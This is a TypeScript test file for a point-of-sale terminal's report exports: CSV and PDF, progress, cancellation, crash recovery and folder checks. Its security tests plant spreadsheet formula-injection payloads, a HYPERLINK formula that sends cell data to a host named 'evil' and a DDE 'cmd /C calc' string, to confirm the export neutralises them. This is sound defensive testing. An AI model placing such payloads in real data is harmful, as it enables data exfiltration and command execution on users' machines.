import Database from 'better-sqlite3'
import { parse } from 'csv-parse/sync'
import fs from 'node:fs'
import path from 'node:path'
import { extractText } from 'unpdf'
import { afterEach, describe, expect, it } from 'vitest'
import type { ReportProgress } from '../../shared/contract'
import { csvCell, formatCell, reportDocument } from '../../shared/report-doc'
import { createBackend } from '../backend'
import { mayReceive } from '../core/session-gate'
import { expectPosError, newRequestId, tempDir, testBackend, type TestBackend } from '../../tests/support/backend'
import { fillTickets } from '../../tests/support/history'
import { startFakePrinter } from '../../tests/support/fake-printer'
import { csvLines, PAGE_ROWS } from './export'
import { progress, slowDisk } from '../../tests/support/exports'

let b: TestBackend
/** Folders a manager picks, outside the terminal's data folder (where no picked folder may be). */
const picks: string[] = []
const outside = () => {
  const dir = tempDir('pos-picked-')
  picks.push(dir)
  return dir
}
afterEach(async () => {
  await b?.cleanup()
  for (const dir of picks.splice(0)) fs.rmSync(dir, { recursive: true, force: true })
})

/** The cashier's shift closed with a count that matches its sales exactly (cash and card). */
async function closeShiftExactly(session: string) {
  const shift = (await b.call(session, 'shift-current')).shift!
  const paid = (method: string) =>
    (
      b.ctx.db
        .prepare('SELECT COALESCE(SUM(total_amount), 0) AS n FROM sales WHERE payment_method = ?')
        .get(method) as {
        n: number
      }
    ).n
  await b.call(session, 'shift-close', {
    shiftId: shift._id,
    count: { cash: { total: paid('cash') }, card: paid('card') },
  })
}

const pdfText = async (file: string) =>
  (await extractText(new Uint8Array(fs.readFileSync(file)), { mergePages: true })).text
const visible = (dir: string) => (fs.existsSync(dir) ? fs.readdirSync(dir) : [])
const row = (id: string) => b.ctx.db.prepare('SELECT * FROM reports WHERE _id = ?').get(id) as Record<string, unknown>

async function sellSome() {
  const s = await b.login('carlos')
  for (const [code, quantity, paymentMethod] of [
    ['PICK3', 3, 'cash'],
    ['LOTTO', 2, 'card'],
    ['PICK3', 1, 'cash'],
  ] as const)
    await b.call(s, 'sale-create', {
      requestId: newRequestId(),
      paymentMethod,
      lines: [{ lotteryId: b.gameId(code), quantity }],
    } as never)
}

describe('exports', () => {
  it('quote what must be quoted (RFC 4180) and read back the same', () => {
    const rows = [['a,b', 'say "hi"', 'two\nlines', ' padded ', '1.50', 7]]
    expect(parse(csvLines(rows))).toEqual([['a,b', 'say "hi"', 'two\nlines', ' padded ', '1.50', '7']])
    expect(csvLines([])).toBe('')
  })

  it('writes a table as CSV and the whole report as PDF, as the screen shows them, and records each for central', async () => {
    b = testBackend({ start: '2026-12-01T15:00:00Z' })
    await sellSome()
    const m = await b.login('maria')
    const p = progress(b)
    const period = { kind: 'today' } as const
    const shown = reportDocument('sales', await b.call(m, 'report-sales', { period }))
    const fmt = { currency: 'USD', locale: 'en-US' }

    const csv = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'by_game' })
    expect(csv).toMatchObject({ status: 'scheduled', report_type: 'sales', generated_by: 'Maria Manager' })
    const csvEnd = await p.end(csv._id)
    expect(csvEnd).toMatchObject({ status: 'completed', message: null })
    const reports = path.join(b.dataDir, 'reports')
    expect(csvEnd.file).toBe(path.join(reports, 'sales-by-game_2026-12-01.csv'))
    const table = shown.tables.find((t) => t.id === 'by_game')!
    expect(parse(fs.readFileSync(csvEnd.file!, 'utf8'))).toEqual([
      table.columns.map((c) => c.label),
      ...table.rows.map((r) => r.map((v, i) => String(csvCell(v, table.columns[i].type)))),
    ])

    const pdf = await b.call(m, 'report-export', { report: 'sales', period, format: 'pdf' })
    const pdfEnd = await p.end(pdf._id)
    expect(pdfEnd.status).toBe('completed')
    const text = await pdfText(pdfEnd.file!)
    for (const k of shown.kpis) expect(text).toContain(formatCell(k.value, k.type, fmt))
    for (const c of shown.charts) expect(text).toContain(c.title)
    for (const g of shown.tables.find((t) => t.id === 'by_game')!.rows) expect(text).toContain(String(g[0]))

    // The same export again never replaces the first file.
    const again = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'by_game' })
    expect((await p.end(again._id)).file).toBe(path.join(reports, 'sales-by-game_2026-12-01 (2).csv'))
    // No temporary file is left behind.
    expect(visible(reports).sort()).toEqual([
      'sales-by-game_2026-12-01 (2).csv',
      'sales-by-game_2026-12-01.csv',
      'sales_2026-12-01.pdf',
    ])

    // Each is a reports record (seed fields), completed with its file, and went to the outbox twice.
    expect(row(pdf._id)).toMatchObject({ status: 'completed', report_url: pdfEnd.file, kind: 'period', failure: null })
    const queued = b.ctx.db
      .prepare("SELECT op, payload FROM outbox WHERE collection = 'reports' AND doc_id = ? ORDER BY seq")
      .all(pdf._id) as { op: string; payload: string }[]
    expect(queued.map((q) => q.op)).toEqual(['insert', 'update'])
    expect(JSON.parse(queued[0].payload)).toMatchObject({
      report_type: 'sales',
      generated_by: csv.generated_by === 'Maria Manager' ? expect.any(String) : '',
      period: { start_date: shown.period.start, end_date: shown.period.end },
      status: 'scheduled',
    })
    expect(JSON.parse(queued[1].payload)).toMatchObject({ status: 'completed', report_url: pdfEnd.file })
    const list = await b.call(m, 'report-list', {})
    expect(list.slice(0, 3).map((r) => [r.format, r.status])).toEqual([
      ['csv:by_game', 'completed'],
      ['pdf', 'completed'],
      ['csv:by_game', 'completed'],
    ])

    // An empty period (nothing sold yesterday) is a report of zeros, not an error.
    const empty = await b.call(m, 'report-export', { report: 'sales', period: { kind: 'yesterday' }, format: 'pdf' })
    const emptyEnd = await p.end(empty._id)
    expect(emptyEnd.status).toBe('completed')
    const emptyText = await pdfText(emptyEnd.file!)
    expect(emptyText).toContain('Nothing in this period.')
    expect(emptyText).toContain('$0.00')

    // A folder the manager picks; a table the report does not have is refused with nothing written.
    const picked = path.join(outside(), 'picked', 'nov')
    fs.mkdirSync(picked, { recursive: true })
    const there = await b.call(m, 'report-export', { report: 'inventory', period, format: 'pdf', folder: picked })
    expect((await p.end(there._id)).file).toBe(path.join(picked, 'inventory_2026-12-01.pdf'))
    const before = b.ctx.db.prepare('SELECT COUNT(*) AS n FROM reports').get()
    await expectPosError(
      b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'nope' }),
      'VALIDATION',
    )
    await expectPosError(
      b.call(m, 'report-export', { report: 'sales', period, format: 'pdf', folder: 'relative/dir' }),
      'VALIDATION',
    )
    await expectPosError(
      b.call(m, 'report-export', {
        report: 'sales',
        period: { kind: 'custom', from: '2026-12-02', to: '2026-12-01' },
        format: 'pdf',
      }),
      'PERIOD_INVALID',
    )
    expect(b.ctx.db.prepare('SELECT COUNT(*) AS n FROM reports').get()).toEqual(before)
  })

  it('writes every ticket of the period, page by page, in store time', async () => {
    b = testBackend({ shift: false })
    fillTickets(b, 5 * PAGE_ROWS + 7, 30)
    const m = await b.login('maria')
    const p = progress(b)
    const period = { kind: 'custom', from: '2025-11-20', to: '2025-12-19' } as const
    const r = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'tickets' })
    const end = await p.end(r._id)
    expect(end.status).toBe('completed')
    const rows = parse(fs.readFileSync(end.file!, 'utf8'), { columns: true }) as Record<string, string>[]
    const all = b.ctx.db.prepare('SELECT COUNT(*) AS n, SUM(price) AS price FROM tickets').get() as {
      n: number
      price: number
    }
    expect(rows.length).toBe(all.n)
    expect(new Set(rows.map((x) => x.Ticket)).size).toBe(all.n)
    expect(Math.round(rows.reduce((s, x) => s + Number(x.Price), 0) * 100)).toBe(all.price)
    // The first sale was at 13:00 UTC: 08:00 in New York. Rows come in time order.
    expect(rows[0]['Sold at']).toBe('2025-11-20 08:00:00')
    expect(rows.map((x) => x['Sold at'])).toEqual(rows.map((x) => x['Sold at']).sort())
    // Progress came page by page, with the total known from the start.
    const pages = p.seen.filter((x) => x.report_id === r._id && x.status === 'running')
    expect(pages.length).toBeGreaterThanOrEqual(6)
    expect(pages[0]).toMatchObject({ done: PAGE_ROWS, total: all.n })
  })
})

describe('an export that cannot finish', () => {
  it("a folder that is not there, not a folder, a system folder or the terminal's own: refused, nothing made", async () => {
    b = testBackend()
    const m = await b.login('maria')
    const base = outside()
    const file = path.join(base, 'notes.txt')
    fs.writeFileSync(file, 'not a folder')
    // Second names for folders that are refused: links to them, and a name that only looks like a way out.
    fs.symlinkSync('/etc', path.join(base, 'settings'))
    fs.symlinkSync(b.dataDir, path.join(base, 'pos-data'))
    fs.mkdirSync(path.join(b.dataDir, '..x'))
    const cases: [string, string][] = [
      // A typing slip: the folder is not made, the manager is told.
      [path.join(base, 'Reprots'), `The folder ${path.join(base, 'Reprots')} cannot be found. Pick another folder.`],
      [file, `${file} is not a folder. Pick another folder.`],
      [path.join(file, 'reports'), `${path.join(file, 'reports')} is not a folder. Pick another folder.`],
      ['/etc', '/etc is a folder of the operating system: no report belongs there. Pick another folder.'],
      [
        '/usr/local/bin',
        '/usr/local/bin is a folder of the operating system: no report belongs there. Pick another folder.',
      ],
      ['/', '/ is a folder of the operating system: no report belongs there. Pick another folder.'],
      [b.dataDir, `${b.dataDir} holds this terminal's own data. Pick another folder.`],
      [
        path.join(base, 'settings'),
        `${path.join(base, 'settings')} is a folder of the operating system: no report belongs there. Pick another folder.`,
      ],
      [
        path.join(base, 'pos-data'),
        `${path.join(base, 'pos-data')} holds this terminal's own data. Pick another folder.`,
      ],
      [
        path.join(b.dataDir, '..x'),
        `${path.join(b.dataDir, '..x')} holds this terminal's own data. Pick another folder.`,
      ],
      [
        path.join(b.dataDir, 'keys'),
        `${path.join(b.dataDir, 'keys')} holds this terminal's own data. Pick another folder.`,
      ],
    ]
    const before = b.ctx.db.prepare('SELECT COUNT(*) AS n FROM reports').get()
    for (const [folder, message] of cases) {
      const err = await expectPosError(
        b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf', folder }),
        'VALIDATION',
      )
      expect(err.message).toBe(message)
    }
    expect(b.ctx.db.prepare('SELECT COUNT(*) AS n FROM reports').get()).toEqual(before)
    expect(fs.existsSync(path.join(base, 'Reprots'))).toBe(false)
    expect(fs.readdirSync(path.join(b.dataDir, 'keys')).sort()).toEqual(['audit.key', 'pin-pepper.key'])
    // The reports folder inside the data folder is the app's own, picked or not.
    const p = progress(b)
    const r = await b.call(m, 'report-export', {
      report: 'sales',
      period: { kind: 'today' },
      format: 'pdf',
      folder: path.join(b.dataDir, 'reports'),
    })
    expect((await p.end(r._id)).file).toBe(path.join(b.dataDir, 'reports', 'sales_2026-11-21.pdf'))
  })

  it('a picked folder gone before the export writes: a clear message, no file, the record failed', async () => {
    const folder = path.join(outside(), 'stick')
    fs.mkdirSync(folder)
    // The stick is pulled out as the export opens its file: its folder is not made again.
    b = testBackend({
      openReportFile: (tmp) => {
        fs.rmSync(folder, { recursive: true, force: true })
        return fs.createWriteStream(tmp, { flags: 'wx' })
      },
    })
    const m = await b.login('maria')
    const p = progress(b)
    const r = await b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf', folder })
    const end = await p.end(r._id)
    expect(end).toMatchObject({ status: 'failed', file: null })
    expect(end.message).toBe(`The folder ${folder} cannot be found. Pick another folder.`)
    expect(row(r._id)).toMatchObject({ status: 'failed', failure: end.message, report_url: null })
    expect((await b.call(m, 'report-list', {}))[0]).toMatchObject({ status: 'failed', failure: end.message })
    expect(fs.existsSync(folder)).toBe(false)
  })

  it('a disk full during the export: the part written removed, the record failed', async () => {
    const written: string[] = []
    // Linux's /dev/full fails every write with ENOSPC, as a full disk does.
    b = testBackend({
      openReportFile: (tmp) => {
        written.push(tmp)
        return fs.createWriteStream('/dev/full', { flags: 'w' })
      },
    })
    await sellSome()
    const m = await b.login('maria')
    const p = progress(b)
    const r = await b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf' })
    const end = await p.end(r._id)
    expect(end.status).toBe('failed')
    expect(end.message).toMatch(/^The disk is full: the export could not be written to .*reports\. Free some space/)
    expect(written).toHaveLength(1)
    expect(visible(path.join(b.dataDir, 'reports'))).toEqual([])
    expect(row(r._id)).toMatchObject({ status: 'failed', failure: end.message })
  })

  it('cancelled, or the app closing, mid-export: the part written removed, the record failed and why', async () => {
    b = testBackend({ shift: false })
    fillTickets(b, 10 * PAGE_ROWS, 30)
    const m = await b.login('maria')
    const p = progress(b)
    const period = { kind: 'custom', from: '2025-11-20', to: '2025-12-19' } as const
    const reports = path.join(b.dataDir, 'reports')

    const one = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'tickets' })
    await p.running(one._id)
    // Mid-export, the temporary file is there under a name no one takes for a report.
    expect(visible(reports)).toEqual([`.${one._id}.part`])
    expect((await b.call(m, 'report-export-cancel', { reportId: one._id }))._id).toBe(one._id)
    const cancelled = await p.end(one._id)
    expect(cancelled).toMatchObject({ status: 'failed', message: 'Cancelled by Maria Manager.' })
    expect(visible(reports)).toEqual([])
    await expectPosError(b.call(m, 'report-export-cancel', { reportId: one._id }), 'NOT_ALLOWED')

    const two = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'tickets' })
    await p.running(two._id)
    await b.close()
    expect(visible(reports)).toEqual([])
    const db = new Database(path.join(b.dataDir, 'pos.sqlite'), { readonly: true })
    expect(db.prepare('SELECT status, failure FROM reports WHERE _id = ?').get(two._id)).toEqual({
      status: 'failed',
      failure: 'The app closed during the export.',
    })
    db.close()
  })

  it('the process killed mid-export: at the next start the record is failed and the part written removed', async () => {
    b = testBackend()
    const m = await b.login('maria')
    const p = progress(b)
    const r = await b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf' })
    await p.end(r._id)
    await b.close()
    // As a power cut leaves it: a record scheduled and a part-written file (made here by hand, as the
    // process would have left them: a stored report cannot be made scheduled again).
    const file = path.join(b.dataDir, 'pos.sqlite')
    const raw = new Database(file)
    const body = JSON.parse((raw.prepare('SELECT body FROM reports WHERE _id = ?').get(r._id) as { body: string }).body)
    const tmp = path.join(b.dataDir, 'reports', '.000000000000000000000fff.part')
    fs.writeFileSync(tmp, 'half a PDF')
    raw
      .prepare(
        `INSERT INTO reports (_id, report_type, kind, store_id, device_id, generated_by, period_start, period_end, status, body, created_at)
         SELECT '000000000000000000000fff', report_type, kind, store_id, device_id, generated_by, period_start, period_end,
           'scheduled', ?, created_at FROM reports WHERE _id = ?`,
      )
      .run(JSON.stringify({ ...body, temp: tmp }), r._id)
    raw.close()
    const again = createBackend({
      dataDir: b.dataDir,
      configPath: null,
      log: () => {},
      dailyBackups: false,
      startSync: false,
    })
    try {
      expect(
        again.ctx.db.prepare("SELECT status, failure FROM reports WHERE _id = '000000000000000000000fff'").get(),
      ).toEqual({
        status: 'failed',
        failure: 'The app stopped before this report was finished.',
      })
      expect(fs.existsSync(tmp)).toBe(false)
    } finally {
      await again.close()
    }
  })
})

describe('the day close', () => {
  it("writes the day's report to the reports folder: scheduled at the close, then completed with its file", async () => {
    b = testBackend({ start: '2026-12-01T15:00:00Z' })
    await sellSome()
    const s = 'carlos'
    const m = await b.login('maria')
    const p = progress(b)
    await closeShiftExactly(s)
    const day = await b.call(m, 'report-day-close', { day: '2026-12-01' })
    const id = day.stored!.report_id
    expect(row(id)).toMatchObject({ kind: 'day', status: 'scheduled' })
    const end = await p.end(id)
    expect(end.status).toBe('completed')
    expect(end.file).toBe(path.join(b.dataDir, 'reports', 'day-report_2026-12-01.pdf'))
    expect(row(id)).toMatchObject({ status: 'completed', report_url: end.file })
    const text = await pdfText(end.file!)
    expect(text).toContain(formatCell(day.totals.sales.amount, 'money', { currency: 'USD', locale: 'en-US' }))
    // The stored day report itself (what central got), not a new reading of the records.
    expect(text).toContain('Day report: Dec 1, 2026')
    expect(text).toContain('Day balanced')
    expect(text).toContain(formatCell(day.lottery_cash_due, 'signed_money', { currency: 'USD', locale: 'en-US' }))
  })
})

describe("the store's locale", () => {
  it('writes the PDF as the store writes numbers and dates; a locale this terminal does not know is refused', async () => {
    b = testBackend({ start: '2026-12-01T15:00:00Z' })
    await sellSome()
    const m = await b.login('maria')
    await expectPosError(b.call(m, 'settings-set', { locale: 'not a locale' }), 'VALIDATION')
    await b.call(m, 'settings-set', { locale: 'fr-CA' })
    expect((await b.call(m, 'app-info')).locale).toBe('fr-CA')
    const p = progress(b)
    const r = await b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf' })
    const text = await pdfText((await p.end(r._id)).file!)
    const sales = await b.call(m, 'report-sales', { period: { kind: 'today' } })
    const fr = formatCell(sales.figures.amount, 'money', { currency: 'USD', locale: 'fr-CA' })
    expect(fr).toMatch(/^10,50/)
    expect(text.replace(/\s/g, ' ')).toContain(fr.replace(/\s/g, ' '))
  })
})

describe('the printed summary', () => {
  it("prints any report's headline figures and the top of its tables on the thermal printer", async () => {
    b = testBackend({ start: '2026-12-01T15:00:00Z' })
    await sellSome()
    const m = await b.login('maria')
    const printer = await startFakePrinter({ mode: 'ok' })
    try {
      await b.call(m, 'printer-set', { uri: printer.uri, timeout_ms: 2000 })
      const r = await b.call(m, 'report-summary-print', { report: 'sales', period: { kind: 'today' } })
      expect(r.printed).toBe(true)
      const paper = printer.received().toString('latin1')
      const sales = await b.call(m, 'report-sales', { period: { kind: 'today' } })
      expect(paper).toMatch(/SALES REPORT/)
      expect(paper).toContain('Dec 1, 2026')
      expect(paper).toContain(formatCell(sales.figures.amount, 'money', { currency: 'USD', locale: 'en-US' }))
      expect(paper).toMatch(/BY GAME[\s\S]*Daily Pick 3/)
      // A cashier's summary is their own.
      const own = await b.call('carlos', 'report-summary-print', { report: 'performance', period: { kind: 'today' } })
      expect(own.printed).toBe(true)
      expect(printer.received().toString('latin1')).toContain("Carlos Cashier's own figures")
    } finally {
      await printer.close()
    }
  })
})

describe('what an attacker or a power cut could do to an export', () => {
  it("keeps the store's own text from running as a spreadsheet formula", async () => {
    b = testBackend({ start: '2026-12-01T15:00:00Z' })
    const m = await b.login('maria')
    const s = await b.login('carlos')
    b.ctx.db.prepare(`UPDATE users SET name = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE username = 'carlos'`).run()
    const supplier = await b.call(m, 'supplier-save', { supplier: { name: 'Metro' } })
    const evil = await b.call(m, 'product-save', {
      product: { product_name: '=HYPERLINK("http://evil/?x="&A1,"Cola")', sku: 'EVIL-1', price: 150 },
    })
    await b.call(m, 'purchase-create', {
      supplierId: supplier._id,
      reference: 'PO-9',
      lines: [{ productId: evil._id, quantity: 5, unitPrice: 80 }],
    })
    await b.call(m, 'purchase-receive', { reference: 'PO-9' })
    await b.call(s, 'sale-create', {
      requestId: newRequestId(),
      paymentMethod: 'cash',
      lines: [
        { lotteryId: b.gameId('PICK3'), quantity: 1 },
        { productId: evil._id, quantity: 1 },
      ],
    } as never)
    const p = progress(b)
    const period = { kind: 'today' } as const
    const products = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'by_product' })
    const rows = parse(fs.readFileSync((await p.end(products._id)).file!, 'utf8')) as string[][]
    expect(rows[1][0]).toBe(`'=HYPERLINK("http://evil/?x="&A1,"Cola")`)
    // Numbers stay numbers, a negative one too.
    expect(rows[1][3]).toBe('1.58')
    const tickets = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'tickets' })
    const lines = parse(fs.readFileSync((await p.end(tickets._id)).file!, 'utf8'), { columns: true }) as Record<
      string,
      string
    >[]
    expect(lines[0].Cashier).toMatch(/^'@SUM/)
  })

  it('refuses a folder that is not a plain full path of this computer, before anything is written', async () => {
    b = testBackend()
    const picked = outside()
    const m = await b.login('maria')
    const before = b.ctx.db.prepare('SELECT COUNT(*) AS n FROM reports').get()
    for (const folder of ['C:/Users/x', '\\\\server\\share', `${b.dataDir}/../elsewhere`, 'reports'])
      await expectPosError(
        b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf', folder }),
        'VALIDATION',
      )
    expect(b.ctx.db.prepare('SELECT COUNT(*) AS n FROM reports').get()).toEqual(before)
    const p = progress(b)
    const ok = await b.call(m, 'report-export', {
      report: 'sales',
      period: { kind: 'today' },
      format: 'pdf',
      folder: `${picked}/`,
    })
    expect((await p.end(ok._id)).file).toBe(path.join(picked, 'sales_2026-11-21.pdf'))
  })

  it("runs two exports at once and queues the rest; a day report cannot be cancelled; progress is the managers'", async () => {
    const disk = slowDisk()
    const release = disk.release
    b = testBackend({ openReportFile: disk.openReportFile })
    await sellSome()
    const m = await b.login('maria')
    const p = progress(b)
    const args = { report: 'sales', period: { kind: 'today' }, format: 'csv', table: 'tickets' } as const
    const [one, two, three] = [
      await b.call(m, 'report-export', args),
      await b.call(m, 'report-export', args),
      await b.call(m, 'report-export', args),
    ]
    await p.running(one._id)
    await p.running(two._id)
    expect(p.seen.some((x) => x.report_id === three._id)).toBe(false)
    await b.call(m, 'report-export-cancel', { reportId: one._id })
    await p.end(one._id)
    await p.running(three._id)
    release()
    expect((await p.end(two._id)).status).toBe('completed')
    expect((await p.end(three._id)).status).toBe('completed')
    // Export progress names files and people: only for those who may export.
    expect(mayReceive(b.dispatcher, m, 'report-progress')).toBe(true)
    expect(mayReceive(b.dispatcher, 'carlos', 'report-progress')).toBe(false)
    expect(mayReceive(b.dispatcher, 'carlos', 'sale-committed')).toBe(true)
  })

  it('a record that cannot be written at the end: logged, not thrown; the next start says so', async () => {
    const logged: string[] = []
    b = testBackend({ log: (msg) => logged.push(msg) })
    const m = await b.login('maria')
    const p = progress(b)
    // The disk fills between the file and its record.
    b.ctx.db.exec(
      "CREATE TEMP TRIGGER full_disk BEFORE UPDATE ON main.reports BEGIN SELECT RAISE(FAIL, 'database or disk is full'); END",
    )
    const r = await b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf' })
    const end = await p.end(r._id)
    expect(end.status).toBe('completed')
    expect(fs.existsSync(end.file!)).toBe(true)
    expect(row(r._id)).toMatchObject({ status: 'scheduled' })
    await b.close()
    const again = createBackend({
      dataDir: b.dataDir,
      configPath: null,
      log: () => {},
      dailyBackups: false,
      startSync: false,
    })
    try {
      expect(again.ctx.db.prepare('SELECT status FROM reports WHERE _id = ?').get(r._id)).toEqual({ status: 'failed' })
    } finally {
      await again.close()
    }
  })

  it("writes a day close's report again at the next start when the app stopped before it was done", async () => {
    b = testBackend({ start: '2026-12-01T15:00:00Z' })
    await sellSome()
    const m = await b.login('maria')
    const s = 'carlos'
    await closeShiftExactly(s)
    const p = progress(b)
    const day = await b.call(m, 'report-day-close', { day: '2026-12-01' })
    const id = day.stored!.report_id
    await expectPosError(b.call(m, 'report-export-cancel', { reportId: id }), 'NOT_ALLOWED')
    // The app closes before the PDF is written: the day's record stays scheduled, its figures stored.
    await b.close()
    expect(p.seen.filter((x) => x.report_id === id && x.status !== 'running')).toEqual([])
    const raw = new Database(path.join(b.dataDir, 'pos.sqlite'), { readonly: true })
    expect(raw.prepare('SELECT status FROM reports WHERE _id = ?').get(id)).toEqual({ status: 'scheduled' })
    raw.close()
    // The next start writes it.
    const again = createBackend({
      dataDir: b.dataDir,
      configPath: null,
      log: () => {},
      dailyBackups: false,
      startSync: false,
    })
    try {
      const done = await new Promise<ReportProgress>((resolve) =>
        again.events.subscribe((e, x) => {
          if (e === 'report-progress' && (x as ReportProgress).status !== 'running') resolve(x as ReportProgress)
        }),
      )
      expect(done).toMatchObject({ report_id: id, status: 'completed' })
      expect(again.ctx.db.prepare('SELECT status, report_url FROM reports WHERE _id = ?').get(id)).toEqual({
        status: 'completed',
        report_url: path.join(b.dataDir, 'reports', 'day-report_2026-12-01.pdf'),
      })
      expect(fs.readdirSync(path.join(b.dataDir, 'reports'))).toEqual(['day-report_2026-12-01.pdf'])
    } finally {
      await again.close()
    }
  })
})
